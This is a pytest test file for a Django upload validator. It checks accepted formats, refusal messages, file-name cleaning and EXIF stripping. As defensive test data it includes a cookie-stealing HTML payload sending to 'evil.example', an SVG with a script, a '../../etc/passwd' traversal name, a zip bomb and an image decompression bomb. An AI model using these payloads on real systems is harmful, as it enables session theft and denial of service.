"""Uploaded materials: what content is accepted, what is refused, and what the person is told."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from citybridge.core.uploads import UploadKind, reencode_image, validate_upload

# --- building files ---------------------------------------------------------------------------


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def refusal(name, content, **options):
    """The ValidationError validate_upload raises for this file, with its message rendered."""
    with pytest.raises(ValidationError) as caught:
        validate_upload(upload(name, content), **options)
    return caught.value.code, caught.value.messages[0]


def image_bytes(image_format, size=(64, 48), mode="RGB", color=(200, 30, 30), **options):
    buffer = io.BytesIO()
    Image.new(mode, size, color).save(buffer, image_format, **options)
    return buffer.getvalue()


def pdf_bytes():
    buffer = io.BytesIO()
    Image.new("RGB", (20, 20), "white").save(buffer, "PDF")
    return buffer.getvalue()


def zip_bytes(entries, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries:
            # OpenDocument requires its "mimetype" entry stored uncompressed.
            kind = zipfile.ZIP_STORED if name == "mimetype" else compression
            archive.writestr(name, data, compress_type=kind)
    return buffer.getvalue()


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx_bytes(*extra):
    return zip_bytes(
        [
            ("[Content_Types].xml", CONTENT_TYPES),
            ("_rels/.rels", b"<Relationships/>"),
            ("word/document.xml", b"<w:document/>"),
            *extra,
        ]
    )


def odf_bytes(mimetype):
    return zip_bytes(
        [
            ("mimetype", mimetype),
            ("content.xml", b"<office:document-content/>"),
            ("META-INF/manifest.xml", b"<manifest:manifest/>"),
        ]
    )


def png_with_declared_size(width, height):
    """A small real PNG whose header claims another size, as a decompression bomb does."""
    data = bytearray(image_bytes("PNG", size=(8, 8)))
    # IHDR is the first chunk: length (4), type (4), width (4), height (4), …, CRC after 13 bytes.
    struct.pack_into(">II", data, 16, width, height)
    struct.pack_into(">I", data, 29, zlib.crc32(bytes(data[12:29])))
    return bytes(data)


# --- accepted ---------------------------------------------------------------------------------


def test_a_real_pdf_is_accepted_as_pdf():
    checked = validate_upload(upload("Minutes 3 May.pdf", pdf_bytes()))

    assert checked.kind == UploadKind.PDF
    assert checked.mime_type == "application/pdf"
    assert checked.extension == ".pdf"
    assert checked.display_name == "Minutes 3 May.pdf"
    assert checked.size == len(pdf_bytes())
    assert (checked.width, checked.height) == (None, None)


def test_the_stored_name_is_random_and_never_the_clients_name():
    first = validate_upload(upload("minutes.pdf", pdf_bytes()))
    second = validate_upload(upload("minutes.pdf", pdf_bytes()))

    assert first.safe_name.endswith(".pdf")
    assert "minutes" not in first.safe_name
    assert len(first.safe_name) == 32 + len(".pdf")
    assert first.safe_name != second.safe_name


def test_a_png_is_accepted_with_its_dimensions():
    checked = validate_upload(upload("chart.png", image_bytes("PNG", size=(640, 360))))

    assert checked.kind == UploadKind.IMAGE
    assert (checked.mime_type, checked.extension) == ("image/png", ".png")
    assert (checked.width, checked.height) == (640, 360)


def test_a_jpeg_is_accepted_with_its_dimensions():
    checked = validate_upload(upload("visit.jpg", image_bytes("JPEG", size=(1200, 800))))

    assert checked.kind == UploadKind.IMAGE
    assert (checked.mime_type, checked.extension) == ("image/jpeg", ".jpg")
    assert (checked.width, checked.height) == (1200, 800)


@pytest.mark.parametrize(
    ("image_format", "mime_type", "extension"),
    [("GIF", "image/gif", ".gif"), ("WEBP", "image/webp", ".webp")],
)
def test_gif_and_webp_images_are_accepted(image_format, mime_type, extension):
    checked = validate_upload(upload("picture", image_bytes(image_format)))

    assert (checked.kind, checked.mime_type, checked.extension) == (
        UploadKind.IMAGE,
        mime_type,
        extension,
    )
    assert checked.display_name == "picture"


def test_the_content_decides_the_extension_whatever_the_name_says():
    checked = validate_upload(upload("scan.png", pdf_bytes(), content_type="image/png"))

    assert (checked.kind, checked.extension) == (UploadKind.PDF, ".pdf")
    assert checked.display_name == "scan.png"


def test_a_word_document_is_accepted_as_a_document():
    checked = validate_upload(upload("agreement.docx", docx_bytes()))

    assert checked.kind == UploadKind.DOCUMENT
    assert checked.extension == ".docx"
    assert checked.mime_type == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )


@pytest.mark.parametrize(
    ("folder", "kind", "extension"),
    [("xl/", UploadKind.SPREADSHEET, ".xlsx"), ("ppt/", UploadKind.PRESENTATION, ".pptx")],
)
def test_excel_and_powerpoint_files_are_accepted_with_their_kind(folder, kind, extension):
    content = zip_bytes([("[Content_Types].xml", CONTENT_TYPES), (folder + "main.xml", b"<x/>")])

    checked = validate_upload(upload("budget", content))

    assert (checked.kind, checked.extension) == (kind, extension)


@pytest.mark.parametrize(
    ("mimetype", "kind", "extension"),
    [
        (b"application/vnd.oasis.opendocument.text", UploadKind.DOCUMENT, ".odt"),
        (b"application/vnd.oasis.opendocument.spreadsheet", UploadKind.SPREADSHEET, ".ods"),
        (b"application/vnd.oasis.opendocument.presentation", UploadKind.PRESENTATION, ".odp"),
    ],
)
def test_opendocument_files_are_accepted_with_their_kind(mimetype, kind, extension):
    checked = validate_upload(upload("report.odt", odf_bytes(mimetype)))

    assert (checked.kind, checked.mime_type, checked.extension) == (
        kind,
        mimetype.decode(),
        extension,
    )


def test_utf8_text_is_accepted_as_plain_text():
    content = "Exchange meeting in Ikoma — 生駒市\nAgenda to follow.\n".encode()

    checked = validate_upload(upload("notes.txt", content))

    assert (checked.kind, checked.mime_type, checked.extension) == (
        UploadKind.TEXT,
        "text/plain",
        ".txt",
    )


def test_a_csv_table_is_accepted_as_csv():
    content = b"indicator;2024;2025\nbus trips;120;180\ntrees planted;40;95\n"

    checked = validate_upload(upload("indicators.csv", content))

    assert (checked.kind, checked.mime_type, checked.extension) == (
        UploadKind.TEXT,
        "text/csv",
        ".csv",
    )


# --- file names -------------------------------------------------------------------------------


def test_a_path_in_the_file_name_is_dropped_from_the_display_name():
    checked = validate_upload(upload("../../etc/passwd.pdf", pdf_bytes()))

    assert checked.kind == UploadKind.PDF
    assert checked.display_name == "passwd.pdf"
    assert "/" not in checked.safe_name
    assert ".." not in checked.safe_name
    assert checked.safe_name.endswith(".pdf")


def test_a_windows_path_in_the_file_name_is_dropped_from_the_display_name():
    checked = validate_upload(upload("C:\\Users\\x\\evil.pdf", pdf_bytes()))

    assert checked.display_name == "evil.pdf"
    assert "\\" not in checked.safe_name


def test_control_characters_and_leading_dots_are_removed_from_the_display_name():
    # U+202E would show "minutes\u202efdp.exe" as "minutesexe.pdf".
    checked = validate_upload(upload("..\x00.min\tutes\u202efdp.exe", pdf_bytes()))

    assert checked.display_name == "minutesfdp.exe"


def test_a_long_display_name_is_cut_to_120_characters_keeping_the_extension():
    checked = validate_upload(upload("x" * 300 + ".pdf", pdf_bytes()))

    assert checked.display_name == "x" * 116 + ".pdf"


def test_a_name_made_only_of_dots_gets_a_neutral_display_name():
    checked = validate_upload(upload("...", pdf_bytes()))

    assert checked.display_name == "upload.pdf"


# --- refused: size ----------------------------------------------------------------------------


def test_an_empty_file_is_refused():
    code, message = refusal("minutes.pdf", b"")

    assert code == "empty"
    assert message == "This file is empty (0 bytes)."


def test_a_file_over_the_given_limit_is_refused_with_both_sizes():
    code, message = refusal("notes.txt", b"a" * 1536, max_bytes=1024)

    assert code == "too_large"
    assert message == "This file is 1.5 KB; the limit is 1 KB."


def test_the_default_limit_comes_from_the_setting(settings):
    settings.CITYBRIDGE_MAX_UPLOAD_MB = 1
    content = b"%PDF-1.7\n" + b"0" * (1024 * 1024)

    code, message = refusal("slides.pdf", content)

    assert code == "too_large"
    assert message == "This file is 1.1 MB; the limit is 1 MB."


def test_a_file_just_over_the_limit_never_reads_as_equal_to_it():
    code, message = refusal("notes.txt", b"a" * (2 * 1024 * 1024 + 1), max_bytes=2 * 1024 * 1024)

    assert code == "too_large"
    assert message == "This file is 2.1 MB; the limit is 2 MB."


# --- refused: pages and scripts ---------------------------------------------------------------

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>fetch('/account/', {method: 'POST'})</script></svg>"
)


def test_an_svg_with_a_script_is_refused():
    code, message = refusal("logo.svg", SVG_WITH_SCRIPT)

    assert code == "svg"
    assert message == (
        "SVG images are not accepted because they can contain scripts. Please upload a PNG or JPEG."
    )


def test_an_svg_renamed_to_png_is_refused_and_the_message_says_what_it_really_is():
    code, message = refusal("logo.png", SVG_WITH_SCRIPT)

    assert code == "svg"
    assert message == (
        "“logo.png” is really an SVG image. SVG images are not accepted because they can "
        "contain scripts. Please upload a PNG or JPEG."
    )


def test_a_gzipped_svg_is_refused_as_svg():
    code, message = refusal("logo.svgz", zlib.compress(SVG_WITH_SCRIPT, wbits=31))

    assert code == "svg"
    assert message.startswith("SVG images are not accepted")


def test_a_png_that_is_really_html_is_refused():
    content = b"<html><script>document.location='https://evil.example/?'+document.cookie</script>"

    code, message = refusal("photo.png", content)

    assert code == "html"
    assert message == "“photo.png” is not really a PNG image: its content is HTML."


def test_an_html_page_named_pdf_is_refused():
    code, message = refusal("report.pdf", b"\xef\xbb\xbf  \n<!DOCTYPE html><p>Hi</p>")

    assert code == "html"
    assert message == "“report.pdf” is not really a PDF: its content is HTML."


def test_an_html_page_under_its_own_name_is_refused_with_the_reason():
    code, message = refusal("agenda.html", b"<HTML><body>Agenda</body></HTML>")

    assert code == "html"
    assert message == (
        "Web pages (HTML) are not accepted because they can contain scripts. "
        "Please upload a PDF instead."
    )


def test_a_pdf_with_a_web_page_inside_its_first_kilobyte_is_refused():
    content = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF"

    code, message = refusal("report.pdf", content)

    assert code == "html"
    assert message == "“report.pdf” is not really a PDF: its content is HTML."


def test_an_xml_file_is_refused():
    code, message = refusal("data.xml", b'<?xml version="1.0"?><indicators/>')

    assert code == "xml"
    assert message.startswith("XML and other markup files are not accepted")


def test_an_xml_file_named_txt_is_refused():
    code, message = refusal("data.txt", b"  <indicators><value>3</value></indicators>")

    assert code == "xml"
    assert message == "“data.txt” is not really a text file: its content is XML."


# --- refused: programs, archives, other formats -----------------------------------------------

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"


def test_a_windows_program_is_refused():
    code, message = refusal("setup.exe", EXE)

    assert code == "executable"
    assert message == "Programs (executable files and scripts) are not accepted."


def test_a_windows_program_named_pdf_is_refused_and_the_message_says_so():
    code, message = refusal("invoice.pdf", EXE)

    assert code == "executable"
    assert message == "“invoice.pdf” is not really a PDF: its content is a program."


def test_a_linux_program_is_refused():
    code, _ = refusal("tool", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56)

    assert code == "executable"


def test_a_text_that_happens_to_start_with_mz_is_still_text():
    checked = validate_upload(upload("mz.txt", b"MZ Group: minutes of the kick-off meeting\n"))

    assert checked.kind == UploadKind.TEXT


def test_a_plain_zip_is_refused_as_an_archive():
    content = zip_bytes([("report.pdf", pdf_bytes()), ("photo.jpg", image_bytes("JPEG"))])

    code, message = refusal("materials.zip", content)

    assert code == "archive"
    assert message == (
        "“materials.zip” is a ZIP archive (or another packed format), which is not accepted. "
        "Please upload the files inside it one by one."
    )


def test_a_zip_bomb_is_refused_even_when_it_looks_like_a_word_document():
    zeros = ("word/media/image1.png", b"\x00" * (5 * 1024 * 1024))
    content = docx_bytes(zeros)
    assert len(content) < 100_000  # five megabytes of zeros pack into a few kilobytes

    code, message = refusal("agreement.docx", content, max_bytes=100_000)

    assert code == "zip_bomb"
    assert message == (
        "This file would unpack to 5.1 MB, more than the 1.9 MB allowed. "
        "It may be damaged, or built to overload the server."
    )


def test_a_word_document_with_macros_is_refused():
    content = docx_bytes(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"))

    code, message = refusal("agreement.docx", content)

    assert code == "macros"
    assert message.startswith("“agreement.docx” contains macros")


def test_a_damaged_word_document_is_refused():
    content = bytearray(docx_bytes())
    position = content.index(b"word/document.xml") + len(b"word/document.xml")
    content[position : position + 8] = b"\xff" * 8  # corrupt the start of the packed part

    code, message = refusal("agreement.docx", bytes(content))

    assert code == "bad_document"
    assert message == (
        "“agreement.docx” looks like an office document but is damaged, so it cannot be opened."
    )


def test_an_old_binary_office_file_is_refused_with_advice():
    code, message = refusal("budget.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)

    assert code == "legacy_office"
    assert "Please save it as .docx, .xlsx or .pptx" in message


def test_an_unknown_binary_format_is_refused_with_the_list_of_allowed_types():
    code, message = refusal("model.bin", bytes(range(256)) * 4)

    assert code == "unknown_type"
    assert message == (
        "This file type is not accepted. Allowed: PDF, JPEG, PNG, GIF, WebP, Word, Excel, "
        "PowerPoint, OpenDocument and plain text."
    )


def test_a_csv_saved_in_windows_encoding_is_refused_with_advice():
    code, message = refusal("indicators.csv", "città;valore\nPerugia;3\n".encode("cp1252"))

    assert code == "not_utf8"
    assert message == (
        "“indicators.csv” is a text file that is not saved as UTF-8. Please save it again as "
        "UTF-8 (in Excel: “CSV UTF-8”)."
    )


# --- refused: images --------------------------------------------------------------------------


def test_a_png_declaring_400_megapixels_is_refused():
    code, message = refusal("map.png", png_with_declared_size(20_000, 20_000))

    assert code == "image_too_large"
    assert message == "This image has more than 50 megapixels; please make it smaller."


def test_a_png_over_50_megapixels_is_refused_with_its_size():
    code, message = refusal("map.png", png_with_declared_size(8_000, 8_000))

    assert code == "image_too_large"
    assert message == (
        "This image is 8000 × 8000 pixels (64 megapixels); the limit is 50 megapixels. "
        "Please make it smaller."
    )


def test_a_truncated_jpeg_is_refused():
    content = image_bytes("JPEG", size=(400, 300))[:600]

    code, message = refusal("visit.jpg", content)

    assert code == "bad_image"
    assert message == "“visit.jpg” looks like a JPEG image but is damaged or incomplete."


# --- re-encoding images -----------------------------------------------------------------------


def jpeg_with_metadata(size, orientation):
    exif = Image.Exif()
    exif[0x010F] = "SpyCam Inc."  # camera make
    exif[0x0131] = "SecretEditor 1.0"  # software
    exif[0x0112] = orientation
    return image_bytes("JPEG", size=size, exif=exif, comment=b"private comment")


def test_a_reencoded_jpeg_has_no_metadata_left():
    original = jpeg_with_metadata((1200, 800), orientation=1)
    assert b"SpyCam" in original

    image, _ = reencode_image(upload("visit.jpg", original))

    data = image.read()
    assert b"SpyCam" not in data
    assert b"private comment" not in data
    with Image.open(io.BytesIO(data)) as reopened:
        assert reopened.format == "JPEG"
        assert "exif" not in reopened.info
        assert dict(reopened.getexif()) == {}
        assert reopened.size == (1200, 800)


def test_a_reencoded_jpeg_is_turned_upright_and_thumbnailed_within_480_pixels():
    uploaded = upload("visit.jpg", jpeg_with_metadata((1200, 800), orientation=6))
    checked = validate_upload(uploaded)

    image, thumbnail = reencode_image(uploaded, safe_name=checked.safe_name)

    stem = checked.safe_name.removesuffix(".jpg")
    assert (checked.width, checked.height) == (800, 1200)
    assert (image.name, thumbnail.name) == (stem + ".jpg", stem + "-thumb.jpg")
    with Image.open(image) as upright, Image.open(thumbnail) as small:
        assert upright.size == (800, 1200)
        assert (small.format, small.size) == ("JPEG", (320, 480))


def test_a_reencoded_png_stays_png_with_its_transparency_and_a_jpeg_thumbnail():
    content = image_bytes("PNG", size=(960, 540), mode="RGBA", color=(0, 120, 200, 0))

    image, thumbnail = reencode_image(upload("logo.png", content))

    assert image.name.endswith(".png")
    assert thumbnail.name.endswith("-thumb.jpg")
    with Image.open(image) as full, Image.open(thumbnail) as small:
        assert (full.format, full.mode, full.size) == ("PNG", "RGBA", (960, 540))
        assert (small.format, small.size) == ("JPEG", (480, 270))
        assert small.getpixel((10, 10)) == (255, 255, 255)  # transparent shown on white


def test_a_webp_is_reencoded_as_jpeg():
    image, _ = reencode_image(upload("photo.webp", image_bytes("WEBP", size=(300, 200))))

    assert image.name.endswith(".jpg")
    with Image.open(image) as reopened:
        assert (reopened.format, reopened.size) == ("JPEG", (300, 200))


def test_reencoding_refuses_an_image_bomb_too():
    with pytest.raises(ValidationError) as caught:
        reencode_image(upload("map.png", png_with_declared_size(20_000, 20_000)))

    assert caught.value.code == "image_too_large"
